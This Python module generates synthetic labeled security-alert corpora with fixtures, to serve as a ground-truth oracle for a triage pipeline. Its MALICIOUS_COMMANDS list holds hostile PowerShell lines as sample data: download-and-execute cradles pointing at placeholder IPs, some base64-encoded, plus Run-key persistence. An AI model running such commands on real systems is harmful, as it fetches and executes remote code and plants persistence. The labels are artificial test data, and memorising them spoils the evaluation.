"""Synthetic labeled corpora with per-alert fixtures.

Labels are fixed at construction time from the branch the generator sampled
(which side of each workflow threshold, which evidence is withheld), so a
generated corpus doubles as an exact oracle for the triage pipeline.

On disk a corpus is a directory with three line-delimited files::

    traces.jsonl    one trace document per line
    labels.jsonl    {"id", "verdict", "subclass", "branch"}
    fixtures.jsonl  {"id", "fixtures": {users, assets, events, query_tables, incident_states}}
"""

from __future__ import annotations

import base64
import json
import math
import random
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Iterator

from .alert_model import (
    AlertTrace,
    GroundTruthLabel,
    SchemaViolation,
    Subclass,
    TraceError,
    TriggeredRule,
    Verdict,
    format_iso,
    parse_alert,
    serialize_trace,
)
from .geo import EARTH_RADIUS_MI, GAZETTEER
from .router import WorkflowId
from .tool_fabric import FixtureBundle, QueryKind, UserRecord

Scenario = WorkflowId

DEGENERATE_RATE = 0.05
DEFAULT_ACTIONABLE_RATE = 0.2
BASE_EPOCH = 1740787200  # 2025-03-01T00:00:00Z
DAY = 86400

ACTIONABLE = GroundTruthLabel(Verdict.Actionable)
BENIGN = GroundTruthLabel(Verdict.NonActionable, Subclass.BenignPositive)
FP_LOGIC = GroundTruthLabel(Verdict.NonActionable, Subclass.FalsePositiveLogic)
FP_DATA = GroundTruthLabel(Verdict.NonActionable, Subclass.FalsePositiveData)
UNDETERMINED = GroundTruthLabel(Verdict.NonActionable, Subclass.Undetermined)


class IoFailure(Exception):
    pass


@dataclass
class CorpusEntry:
    trace: AlertTrace
    label: GroundTruthLabel | None
    fixtures: FixtureBundle
    branch: str = ""


@dataclass
class LabeledCorpus:
    entries: list[CorpusEntry] = field(default_factory=list)
    seed: int = 0

    def __len__(self) -> int:
        return len(self.entries)

    def __iter__(self) -> Iterator[CorpusEntry]:
        return iter(self.entries)

    def pairs(self) -> list[tuple[AlertTrace, FixtureBundle]]:
        return [(e.trace, e.fixtures) for e in self.entries]

    def labels(self) -> list[tuple[str, GroundTruthLabel]]:
        return [(e.trace.id, e.label) for e in self.entries if e.label is not None]

    def write(self, out_dir: str | Path) -> Path:
        out = Path(out_dir)
        out.mkdir(parents=True, exist_ok=True)
        with open(out / "traces.jsonl", "w", encoding="utf-8") as t, \
                open(out / "labels.jsonl", "w", encoding="utf-8") as lab, \
                open(out / "fixtures.jsonl", "w", encoding="utf-8") as fx:
            for e in self.entries:
                t.write(serialize_trace(e.trace) + "\n")
                if e.label is not None:
                    lab.write(json.dumps({"id": e.trace.id, **e.label.to_dict(), "branch": e.branch}) + "\n")
                fx.write(json.dumps({"id": e.trace.id, "fixtures": e.fixtures.to_dict()},
                                    separators=(",", ":")) + "\n")
        return out


# -- loading ----------------------------------------------------------------

def _lines(path: Path) -> Iterator[tuple[int, str]]:
    try:
        text = path.read_text(encoding="utf-8")
    except OSError as e:
        raise IoFailure(f"{path}: {e}") from e
    for no, line in enumerate(text.splitlines(), start=1):
        if line.strip():
            yield no, line


def load_corpus(path: str | Path) -> LabeledCorpus:
    """Load a corpus directory (or its traces.jsonl). Fails atomically on the first bad line.

    Traces are decoded with the timestamp cross-check deferred to validation, so
    a disagreeing ``time_iso`` shows up as a violation rather than a load error.
    """
    p = Path(path)
    root, traces_path = (p, p / "traces.jsonl") if p.is_dir() else (p.parent, p)
    if not traces_path.exists():
        raise IoFailure(f"{traces_path}: no such file")

    traces: list[AlertTrace] = []
    seen: set[str] = set()
    for no, line in _lines(traces_path):
        try:
            trace = parse_alert(line, check_timestamp=False)
        except TraceError as e:
            raise e.with_line(no)
        if trace.id in seen:
            raise SchemaViolation("id", "duplicate").with_line(no)
        seen.add(trace.id)
        traces.append(trace)

    labels: dict[str, GroundTruthLabel] = {}
    branches: dict[str, str] = {}
    if (root / "labels.jsonl").exists():
        for no, line in _lines(root / "labels.jsonl"):
            try:
                obj = json.loads(line)
                labels[obj["id"]] = GroundTruthLabel.from_dict(obj)
                branches[obj["id"]] = obj.get("branch", "")
            except (ValueError, KeyError, TypeError) as e:
                raise SchemaViolation("labels", str(e)).with_line(no) from None

    fixtures: dict[str, FixtureBundle] = {}
    if (root / "fixtures.jsonl").exists():
        for no, line in _lines(root / "fixtures.jsonl"):
            try:
                obj = json.loads(line)
                fixtures[obj["id"]] = FixtureBundle.from_dict(obj["fixtures"])
            except (ValueError, KeyError, TypeError) as e:
                raise SchemaViolation("fixtures", str(e)).with_line(no) from None

    stray = sorted((labels.keys() | fixtures.keys()) - seen)
    if stray:
        raise SchemaViolation("id", f"labels/fixtures for unknown ids {stray[:3]}")
    entries = [CorpusEntry(t, labels.get(t.id), fixtures.get(t.id, FixtureBundle()),
                           branches.get(t.id, "")) for t in traces]
    return LabeledCorpus(entries)


# -- generation -------------------------------------------------------------

FIRST = ["jane", "john", "alex", "maria", "wei", "fatima", "liam", "olga", "kenji", "amara",
         "diego", "nora", "ravi", "sofia", "tom", "ines"]
LAST = ["doe", "smith", "chen", "garcia", "okafor", "novak", "tanaka", "kim", "silva", "patel",
        "muller", "haddad", "brown", "rossi"]
DOMAINS = ["corp.com", "contoso.com", "example.org"]
EXT_DOMAINS = ["othercorp.com", "partner.io", "vendor.net"]
ACCOUNTS = ["acct-100", "acct-200", "acct-300"]
ISPS = ["BT UK", "Verizon", "Comcast", "Vodafone", "Deutsche Telekom", "Orange", "AT&T",
        "NTT", "Telstra", "Jio"]
COUNTRY = {
    "London": "GB", "Manchester": "GB", "Birmingham": "GB", "New York": "US", "Newark": "US",
    "Brooklyn": "US", "Los Angeles": "US", "San Francisco": "US", "Chicago": "US", "Boston": "US",
    "Seattle": "US", "Dallas": "US", "Miami": "US", "Toronto": "CA", "Paris": "FR", "Berlin": "DE",
    "Amsterdam": "NL", "Dublin": "IE", "Madrid": "ES", "Moscow": "RU", "Lagos": "NG", "Mumbai": "IN",
    "Singapore": "SG", "Tokyo": "JP", "Sydney": "AU", "Sao Paulo": "BR",
}
CITY_NAMES = [c.name for c in GAZETTEER.values()]

FILLER_RULES = [
    ("Unfamiliar_Sign_In_Properties", "Sign-in with properties not seen for this user"),
    ("Mailbox_Forwarding_Rule_Created", "Inbox rule forwards mail to an external address"),
    ("Anomalous_Token_Usage", "Session token replayed from a new device"),
    ("Mass_File_Deletion", "Large number of files deleted in a short period"),
    ("Rare_Country_Access", "Access from a country rarely used by the tenant"),
    ("AWS_IAM_Policy_Modified", "IAM role policy changed via PutRolePolicy"),
    ("Unusual_Email_Volume", "Outbound email volume above baseline"),
    ("Password_Spray_Detected", "Failed sign-ins across many accounts from one source"),
    ("Suspicious_Inbox_Manipulation", "Inbox rules hide or delete messages"),
]

# attributes fillers may carry; none of these can trigger a routing predicate
FILLER_KEYS = ["Username", "ClientIP", "City", "Country", "ISP", "OS", "BrowserType", "Workload",
               "Operation", "EventName", "MFA", "Severity", "UserType", "Verdict"]
# no identity and no context keys: a rule built only from these lacks direct evidence
THIN_KEYS = ["City", "Country", "ISP", "OS", "BrowserType", "Workload", "MFA", "Severity",
             "UserType", "Verdict", "Remediation"]

ADMIN_ROLES = ["GlobalAdmin", "PrivilegedRoleAdmin", "UserAdmin"]
PLAIN_ROLES = [["User"], ["User", "Reader"], ["Member"], ["SalesUser"]]


def _b64_ps(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


BENIGN_COMMANDS = [
    "powershell.exe Get-ChildItem C:\\Users",
    "powershell.exe -NoProfile Get-Service -Name Spooler",
    "powershell.exe Get-Process | Sort-Object CPU -Descending",
    "pwsh -Command Get-Date",
    "powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\backup.ps1",
    "powershell.exe -EncodedCommand " + _b64_ps("Get-Date"),
    "powershell.exe -WindowStyle Hidden -File C:\\Scripts\\inventory.ps1",
]
MALICIOUS_COMMANDS = [
    "powershell.exe -NoProfile -EncodedCommand " + _b64_ps(
        "New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run "
        "-Name Updater -Value 'C:\\Users\\Public\\upd.exe'"),
    "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')\"",
    "powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden -File C:\\Users\\Public\\u.ps1",
    "powershell.exe -enc " + _b64_ps(
        "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/p.ps1')"),
    "powershell.exe -ep bypass -c \"iwr http://203.0.113.9/p.ps1 | iex\"",
    "powershell.exe reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v svc /d x.exe -WindowStyle Hidden",
]


def slc_miles(a: str, b: str) -> float:
    """Spherical law of cosines distance between two gazetteer cities."""
    p, q = GAZETTEER[a.lower()].point, GAZETTEER[b.lower()].point
    f1, f2 = math.radians(p.latitude), math.radians(q.latitude)
    dl = math.radians(q.longitude - p.longitude)
    c = math.sin(f1) * math.sin(f2) + math.cos(f1) * math.cos(f2) * math.cos(dl)
    return EARTH_RADIUS_MI * math.acos(max(-1.0, min(1.0, c)))


class _Gen:
    def __init__(self, scenario: Scenario, seed: int, actionable_rate: float):
        self.scenario = scenario
        self.seed = seed
        self.rate = actionable_rate
        self.rng = random.Random(f"{scenario.value}:{seed}")

    # -- values

    def ip(self) -> str:
        net = self.rng.choice(["192.0.2", "198.51.100", "203.0.113"])
        return f"{net}.{self.rng.randrange(1, 255)}"

    def email(self, domain: str | None = None) -> str:
        r = self.rng
        return f"{r.choice(FIRST)}.{r.choice(LAST)}{r.randrange(1, 99)}@{domain or r.choice(DOMAINS)}"

    def value(self, key: str, ctx: dict[str, str]) -> str:
        r = self.rng
        if key == "Username":
            return ctx["entity"]
        if key in ("ClientIP", "ActorIP"):
            return self.ip()
        if key == "City":
            return ctx.setdefault("city", r.choice(CITY_NAMES))
        if key == "Country":
            return COUNTRY[ctx.setdefault("city", r.choice(CITY_NAMES))]
        if key == "ISP":
            return ctx.setdefault("isp", r.choice(ISPS))
        return r.choice({
            "OS": ["Windows 11", "macOS 14", "iOS 17", "Android 14", "Ubuntu 22.04"],
            "BrowserType": ["Edge", "Chrome", "Safari", "Firefox"],
            "Workload": ["AzureActiveDirectory", "Exchange", "OneDrive", "AWS"],
            "Operation": ["UserLoggedIn", "Set-Mailbox", "New-InboxRule", "PutRolePolicy"],
            "EventName": ["ConsoleLogin", "AssumeRole", "SignInActivity"],
            "MFA": ["true", "false"],
            "Severity": ["Low", "Medium", "High"],
            "UserType": ["Member"],
            "Verdict": ["Suspicious", "Informational"],
            "Remediation": ["None", "Blocked", "Quarantined"],
        }[key])

    def fill(self, core: dict[str, str], ctx: dict[str, str], pool=FILLER_KEYS,
             exclude: tuple[str, ...] = ()) -> dict[str, str]:
        attrs = dict(core)
        want = self.rng.randint(max(6, len(attrs)), 12)
        keys = [k for k in pool if k not in attrs and k not in exclude]
        self.rng.shuffle(keys)
        for k in keys:
            if len(attrs) >= want:
                break
            attrs[k] = self.value(k, ctx)
        return attrs

    def filler(self, name: str, desc: str, ctx: dict[str, str],
               exclude: tuple[str, ...] = ()) -> TriggeredRule:
        core = {"ClientIP": self.ip()}
        if "Username" not in exclude:
            core["Username"] = ctx["entity"]
        return TriggeredRule(name, desc, self.fill(core, dict(ctx), exclude=exclude),
                             self.rng.randint(0, 400))

    def thin_filler(self, name: str, desc: str, ctx: dict[str, str]) -> TriggeredRule:
        return TriggeredRule(name, desc, self.fill({}, dict(ctx), pool=THIN_KEYS),
                             self.rng.randint(0, 400))

    def with_fillers(self, main: list[TriggeredRule], ctx: dict[str, str],
                     thin: int = 0, exclude: tuple[str, ...] = ()) -> list[TriggeredRule]:
        total = max(len(main) + 1, self.rng.randint(2, 4))
        picks = self.rng.sample(FILLER_RULES, total - len(main))
        fillers = [self.thin_filler(n, d, ctx) if i < thin else self.filler(n, d, ctx, exclude)
                   for i, (n, d) in enumerate(picks)]
        rules = list(main)
        for f in fillers:
            rules.insert(self.rng.randrange(len(rules) + 1), f)
        return rules

    def noise_users(self, fx: FixtureBundle, ts: int) -> None:
        for _ in range(self.rng.randint(1, 3)):
            e = self.email()
            fx.users.setdefault(e, UserRecord(e, format_iso(ts - self.rng.randint(40, 2000) * DAY),
                                              tuple(self.rng.choice(PLAIN_ROLES))))

    def noise_events(self, fx: FixtureBundle, ts: int) -> None:
        for _ in range(self.rng.randint(0, 3)):
            fx.events.append({"timestamp": ts - self.rng.randint(0, 3 * DAY),
                              "Username": self.email(), "ClientIP": self.ip(),
                              "Operation": "UserLoggedIn"})

    # -- branch selection

    def pick(self, actionable: list[str], other: list[str]) -> str:
        if actionable and (not other or self.rng.random() < self.rate):
            return self.rng.choice(actionable)
        return self.rng.choice(other)

    # -- scenarios; each returns (main rules, label, branch, ticket risk or None, extra fixture hook)

    def build(self, i: int, degenerate: str | None) -> CorpusEntry:
        r = self.rng
        ts = BASE_EPOCH + r.randrange(0, 60 * DAY)
        domain = r.choice(DOMAINS)
        entity = self.email(domain)
        ctx = {"entity": entity}
        fx = FixtureBundle()
        self.noise_users(fx, ts)
        self.noise_events(fx, ts)
        builder = getattr(self, f"_{self.scenario.value.lower()}")
        entity, rules, label, branch, risk = builder(ts, ctx, fx, degenerate)
        if risk is None:
            risk = sum(max(0, x.risk_score) for x in rules)
        time_iso = format_iso(ts)
        if degenerate == "timestamp":
            time_iso = format_iso(ts + 3600)
        elif degenerate == "negative_risk":
            idx = [k for k, x in enumerate(rules) if x.behavior_rule in dict(FILLER_RULES)]
            k = idx[0]
            old = rules[k]
            rules[k] = TriggeredRule(old.behavior_rule, old.description, old.attributes,
                                     -r.randint(1, 500), old.risks)
        if degenerate:
            branch = f"degenerate:{degenerate}:{branch}"
            if label.verdict is Verdict.NonActionable:
                label = FP_DATA
        trace = AlertTrace(
            id=f"{self.scenario.value.lower()}-{self.seed}-{i:05d}", entity=entity,
            account=r.choice(ACCOUNTS), tenant=domain.split(".")[0], timestamp=ts,
            time_iso=time_iso, risk_score=risk, rules=tuple(rules))
        return CorpusEntry(trace, label, fx, branch)

    def _adduser(self, ts, ctx, fx, degenerate):
        r = self.rng
        name = r.choice(["User_Added", "User_Updated", "Add_Member_To_Group"])
        target = self.email(ctx["entity"].split("@")[1])
        if degenerate == "missing_target":
            branch = "missing_target"
            core = {"Username": ctx["entity"], "Operation": "Add user."}
        else:
            branch = self.pick(["admin"], ["user", "user", "unknown"]) if not degenerate else "user"
            core = {"Username": ctx["entity"], "TargetUser": target, "Operation": "Add user."}
        created = format_iso(ts - r.randint(0, 3) * DAY)
        if branch == "admin":
            fx.users[target] = UserRecord(target, created, (r.choice(ADMIN_ROLES), "User"))
        elif branch == "user":
            fx.users[target] = UserRecord(target, created, tuple(r.choice(PLAIN_ROLES)))
        main = TriggeredRule(name, "Directory user created or changed",
                             self.fill(core, ctx, exclude=("ISP",)), r.randint(100, 3000))
        label = {"admin": ACTIONABLE, "user": BENIGN, "unknown": UNDETERMINED,
                 "missing_target": FP_DATA}[branch]
        return ctx["entity"], self.with_fillers([main], ctx), label, branch, None

    def _authchange(self, ts, ctx, fx, degenerate):
        r = self.rng
        if degenerate:
            branch = "add_new"
        else:
            branch = self.pick(["remove_established", "remove_new", "remove_unknown",
                                "add_established", "add_unknown"], ["add_new"])
        removal = branch.startswith("remove")
        name = "Remove_Authentication_Method" if removal else "Add_Authentication_Method"
        entity = ctx["entity"]
        if branch.endswith("established"):
            fx.users[entity] = UserRecord(entity, format_iso(ts - r.randint(60, 3000) * DAY),
                                          tuple(r.choice(PLAIN_ROLES)))
        elif branch.endswith("new"):
            fx.users[entity] = UserRecord(entity, format_iso(ts - r.randint(1, 25) * DAY),
                                          tuple(r.choice(PLAIN_ROLES)))
        core = {"Username": entity, "ClientIP": self.ip(),
                "Operation": "User deleted security info" if removal else "User registered security info",
                "AuthenticationMethod": r.choice(["MFA", "Phone", "FIDO2 key", "Authenticator app"])}
        main = TriggeredRule(name, "Authentication method changed", self.fill(core, ctx),
                             r.randint(100, 2000))
        label = BENIGN if branch == "add_new" else ACTIONABLE
        return entity, self.with_fillers([main], ctx), label, branch, None

    def _coro(self, ts, ctx, fx, degenerate):
        r = self.rng
        names = r.sample(["Coro_Malware_Detected", "Coro_Phishing_Email", "Coro_Data_Exposure",
                          "Coro_Suspicious_Login"], r.randint(1, 2))
        main = [TriggeredRule(n, "Coro vendor detection",
                              self.fill({"Username": ctx["entity"], "Severity": "High"}, ctx),
                              r.randint(200, 4000)) for n in names]
        return ctx["entity"], self.with_fillers(main, ctx), ACTIONABLE, "vendor", None

    def _generic(self, ts, ctx, fx, degenerate):
        r = self.rng
        if degenerate:
            branch = "valid_low"
        else:
            branch = self.pick(["valid_high", "thin_found_high"],
                               ["valid_low", "valid_low", "thin_found_low", "thin_missing"])
        thin = 1 if branch.startswith("thin") else 0
        rules = self.with_fillers([], ctx, thin=thin)
        if branch.startswith("thin_found"):
            for _ in range(r.randint(1, 3)):
                fx.events.append({"timestamp": ts - r.randint(0, 20 * 3600), "Username": ctx["entity"],
                                  "ClientIP": self.ip(), "Operation": "UserLoggedIn"})
        elif branch == "thin_missing" and r.random() < 0.5:
            fx.events.append({"timestamp": ts - r.randint(2, 9) * DAY, "Username": ctx["entity"],
                              "ClientIP": self.ip(), "Operation": "UserLoggedIn"})
        risk = r.randint(1001, 5000) if branch.endswith("high") else r.randint(0, 1000)
        if branch == "thin_missing":
            risk = r.randint(0, 5000)
        label = {"valid_high": ACTIONABLE, "thin_found_high": ACTIONABLE, "valid_low": BENIGN,
                 "thin_found_low": BENIGN, "thin_missing": UNDETERMINED}[branch]
        return ctx["entity"], rules, label, branch, risk

    def _travel_pair(self, infeasible: bool) -> tuple[str, str, int, float]:
        r = self.rng
        while True:
            a = r.choice(CITY_NAMES)
            b = a if (not infeasible and r.random() < 0.2) else r.choice(CITY_NAMES)
            gap = r.randint(5, 360)
            miles = slc_miles(a, b)
            mph = miles / (gap / 60)
            if abs(miles - 500) < 10 or abs(mph - 600) < 12:
                continue
            if (miles > 500 and mph > 600) == infeasible:
                return a, b, gap, miles

    def _login_row(self, ts: int, city: str, isp: str, entity: str) -> dict[str, Any]:
        row: dict[str, Any] = {"timestamp": ts, "time_iso": format_iso(ts), "Username": entity,
                               "ClientIP": self.ip(), "City": city, "Country": COUNTRY[city],
                               "ISP": isp}
        if self.rng.random() < 0.5:
            p = GAZETTEER[city.lower()].point
            row["latitude"], row["longitude"] = p.latitude, p.longitude
        return row

    def _multipleisp(self, ts, ctx, fx, degenerate):
        r = self.rng
        entity = ctx["entity"]
        branch = "feasible" if degenerate else self.pick(["infeasible"], ["feasible", "feasible", "sparse"])
        rows = []
        isp1, isp2 = r.sample(ISPS, 2)
        if branch == "sparse":
            for _ in range(r.randint(0, 1)):
                rows.append(self._login_row(ts - r.randint(0, 300) * 60, r.choice(CITY_NAMES), isp1, entity))
        else:
            a, b, gap, _ = self._travel_pair(branch == "infeasible")
            t2 = ts - r.randint(0, 60) * 60
            rows += [self._login_row(t2 - gap * 60, a, isp1, entity), self._login_row(t2, b, isp2, entity)]
        if r.random() < 0.5:
            rows.append(self._login_row(ts - r.randint(10, 40) * 3600, r.choice(CITY_NAMES), isp2, entity))
        fx.query_tables[(QueryKind.GetRecentLoginActivity, entity)] = rows
        core = {"Username": entity, "ClientIP": self.ip(), "ISP": f"{isp1}, {isp2}"}
        main = TriggeredRule("Multiple_ISPs", "Logins from multiple ISPs in a short period",
                             self.fill(core, ctx), r.randint(300, 3000))
        label = {"infeasible": ACTIONABLE, "feasible": BENIGN, "sparse": FP_LOGIC}[branch]
        return entity, self.with_fillers([main], ctx), label, branch, None

    def _o365guest(self, ts, ctx, fx, degenerate):
        r = self.rng
        tenant = ctx["entity"].split("@")[1].split(".")[0]
        local = f"{r.choice(FIRST)}.{r.choice(LAST)}_{r.choice(EXT_DOMAINS).replace('.', '_')}"
        entity = f"{local}#EXT#@{tenant}.onmicrosoft.com"
        ctx = {"entity": entity}
        branch = "user" if degenerate else self.pick(["admin"], ["user", "user", "unknown"])
        created = format_iso(ts - r.randint(1, 400) * DAY)
        if branch == "admin":
            fx.users[entity] = UserRecord(entity, created, (r.choice(ADMIN_ROLES),), "Guest")
        elif branch == "user":
            fx.users[entity] = UserRecord(entity, created, ("User",), "Guest")
        core = {"Username": entity, "UserType": "Guest", "Operation": "Add member to group.",
                "GroupName": r.choice(["Finance", "Engineering", "Sales", "HR"])}
        main = TriggeredRule("Defender_Uncommon_Guest_Activity", "Guest account added to a group",
                             self.fill(core, ctx), r.randint(100, 2000))
        label = {"admin": ACTIONABLE, "user": BENIGN, "unknown": UNDETERMINED}[branch]
        return entity, self.with_fillers([main], ctx), label, branch, None

    def _o365login(self, ts, ctx, fx, degenerate):
        r = self.rng
        entity = ctx["entity"]
        if degenerate:
            branch = "low_risk"
        else:
            branch = self.pick(["high_risk_history"], ["low_risk", "high_risk_no_history", "zero_risk"])
        risk = {"high_risk_history": r.randint(1001, 4000), "high_risk_no_history": r.randint(1001, 4000),
                "low_risk": r.randint(1, 1000), "zero_risk": 0}[branch]
        qualifying = r.randint(1, 4) if branch == "high_risk_history" else \
            (0 if branch == "high_risk_no_history" else r.randint(0, 2))
        rows = [{"timestamp": ts - r.randint(60, 6 * DAY), "riskScore": r.randint(2001, 5000),
                 "behaviorRule": r.choice(FILLER_RULES)[0]} for _ in range(qualifying)]
        rows += [{"timestamp": ts - r.randint(60, 6 * DAY), "riskScore": r.randint(100, 2000),
                  "behaviorRule": r.choice(FILLER_RULES)[0]} for _ in range(r.randint(0, 2))]
        rows += [{"timestamp": ts - r.randint(8 * DAY, 30 * DAY), "riskScore": r.randint(2001, 5000),
                  "behaviorRule": r.choice(FILLER_RULES)[0]} for _ in range(r.randint(0, 2))]
        fx.query_tables[(QueryKind.GetRecentHighRiskActivity, entity)] = rows
        city = r.choice(CITY_NAMES)
        core = {"Username": entity, "ClientIP": self.ip(), "City": city, "Country": COUNTRY[city],
                "ISP": r.choice(ISPS), "OS": self.value("OS", ctx), "MFA": r.choice(["true", "false"])}
        main = TriggeredRule("O365_Login_Anomaly", "Risky O365 sign-in", self.fill(core, ctx), risk)
        label = {"high_risk_history": ACTIONABLE, "high_risk_no_history": BENIGN, "low_risk": BENIGN,
                 "zero_risk": FP_LOGIC}[branch]
        return entity, self.with_fillers([main], ctx), label, branch, None

    def _powershell(self, ts, ctx, fx, degenerate):
        r = self.rng
        entity = ctx["entity"]
        if degenerate:
            branch = "benign_cmd"
        else:
            branch = self.pick(["malicious_admin"], ["benign_cmd", "benign_cmd", "malicious_user",
                                                     "malicious_no_user", "malicious_unknown_user"])
        cmd = r.choice(BENIGN_COMMANDS if branch == "benign_cmd" else MALICIOUS_COMMANDS)
        created = format_iso(ts - r.randint(30, 2000) * DAY)
        if branch == "malicious_admin":
            fx.users[entity] = UserRecord(entity, created, (r.choice(ADMIN_ROLES),))
        elif branch in ("malicious_user", "benign_cmd"):
            fx.users[entity] = UserRecord(entity, created, tuple(r.choice(PLAIN_ROLES)))
        host = f"ws-{r.randrange(1000, 9999)}"
        core = {"Hostname": host, "CmdLine": cmd,
                "ParentProcess": r.choice(["explorer.exe", "winword.exe", "cmd.exe", "services.exe"]),
                "FileName": "powershell.exe",
                "Remediation": r.choice(["Disinfected", "None", "Quarantined"])}
        exclude: tuple[str, ...] = ()
        if branch == "malicious_no_user":
            exclude = ("Username",)
        else:
            core["Username"] = entity
        main = TriggeredRule("Endpoint_Threat_Control", "PowerShell execution on endpoint",
                             self.fill(core, ctx, exclude=exclude), r.randint(100, 3000))
        rules = self.with_fillers([main], ctx, exclude=exclude)
        label = {"malicious_admin": ACTIONABLE, "benign_cmd": BENIGN, "malicious_user": BENIGN,
                 "malicious_no_user": BENIGN, "malicious_unknown_user": UNDETERMINED}[branch]
        return entity, rules, label, branch, None

    def _salesforceabnormallogin(self, ts, ctx, fx, degenerate):
        r = self.rng
        entity = ctx["entity"]
        name = "Fluency_Salesforce_Login_Status_Abnormal"
        branch = "few" if degenerate else self.pick(["repeated"], ["few"])
        k = r.randint(3, 8) if branch == "repeated" else r.randint(0, 2)
        rows = [{"timestamp": ts - r.randint(0, 6 * DAY), "behaviorRule": name} for _ in range(k)]
        rows += [{"timestamp": ts - r.randint(0, 6 * DAY), "behaviorRule": r.choice(FILLER_RULES)[0]}
                 for _ in range(r.randint(0, 3))]
        rows += [{"timestamp": ts - r.randint(8 * DAY, 30 * DAY), "behaviorRule": name}
                 for _ in range(r.randint(0, 3))]
        fx.query_tables[(QueryKind.GetRecentRuleActivity, entity)] = rows
        core = {"Username": entity, "ClientIP": self.ip(), "BrowserType": self.value("BrowserType", ctx)}
        main = TriggeredRule(name, "Abnormal Salesforce login status", self.fill(core, ctx),
                             r.randint(100, 3000))
        label = ACTIONABLE if branch == "repeated" else BENIGN
        return entity, self.with_fillers([main], ctx), label, branch, None

    def _sharepointfile(self, ts, ctx, fx, degenerate):
        r = self.rng
        entity = ctx["entity"]
        branch = "low_risk" if degenerate else self.pick(["high_risk"], ["low_risk", "low_risk", "zero_risk"])
        risk = {"high_risk": r.randint(1001, 5000), "low_risk": r.randint(1, 1000), "zero_risk": 0}[branch]
        core = {"Username": entity, "ClientIP": self.ip(),
                "FileName": r.choice(["Q3-forecast.xlsx", "payroll.csv", "roadmap.pptx", "contracts.zip"]),
                "Workload": "SharePoint", "Operation": "FileDownloaded"}
        main = TriggeredRule(r.choice(["SharePoint_File_Download", "SharePoint_File_Access"]),
                             "SharePoint file accessed from uncommon site", self.fill(core, ctx), risk)
        label = {"high_risk": ACTIONABLE, "low_risk": BENIGN, "zero_risk": FP_LOGIC}[branch]
        return entity, self.with_fillers([main], ctx), label, branch, None


def generate(scenario: Scenario, seed: int, n: int,
             actionable_rate: float = DEFAULT_ACTIONABLE_RATE) -> LabeledCorpus:
    """Deterministic labeled corpus of ``n`` traces for one scenario.

    ``floor(n * 0.05)`` entries are deliberately degenerate: the trace carries
    a data defect, so a non-actionable label becomes FalsePositiveData.
    """
    if n < 1:
        raise ValueError("n must be >= 1")
    scenario = WorkflowId(scenario)
    gen = _Gen(scenario, seed, actionable_rate)
    n_deg = int(n * DEGENERATE_RATE)
    degenerate_at = set(gen.rng.sample(range(n), n_deg))
    modes = ["timestamp", "negative_risk"] + (["missing_target"] if scenario is WorkflowId.AddUser else [])
    entries = []
    for i in range(n):
        mode = gen.rng.choice(modes) if i in degenerate_at else None
        entries.append(gen.build(i, mode))
    return LabeledCorpus(entries, seed)
